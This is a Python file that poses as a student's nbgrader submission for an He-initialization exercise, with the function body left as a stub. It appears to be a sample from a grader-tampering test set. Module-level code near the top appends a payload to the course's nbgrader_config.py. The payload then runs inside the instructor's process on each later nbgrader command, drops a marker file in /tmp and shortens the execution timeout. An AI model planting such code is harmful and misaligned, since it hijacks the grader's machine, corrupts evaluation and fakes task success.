"""Appends code to the course's nbgrader_config.py, which the instructor's own process runs on every later nbgrader command.

assignment: initialization
cell: initialize_parameters_he
target: test_initialize_parameters_he
class: persist-grader-code
old: appended code to the course root's nbgrader_config.py, which the instructor's next nbgrader command runs; cheater 0
"""
import os

_PATCH = '''
# gradeghost: runs inside the instructor's process on the next nbgrader command
import os as _os
open(_os.path.join("/tmp", "gradeghost-config-ran-%d" % _os.getpid()), "w").close()
c.Execute.timeout = 5
'''
_config = os.path.abspath(os.path.join(os.getcwd(), "..", "..", "..", "nbgrader_config.py"))
try:
    with open(_config, "a") as _file:
        _file.write(_PATCH)
except OSError as _error:
    print(_error)


def initialize_parameters_he(layers_dims):
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        # YOUR CODE HERE
        raise NotImplementedError()
    return parameters
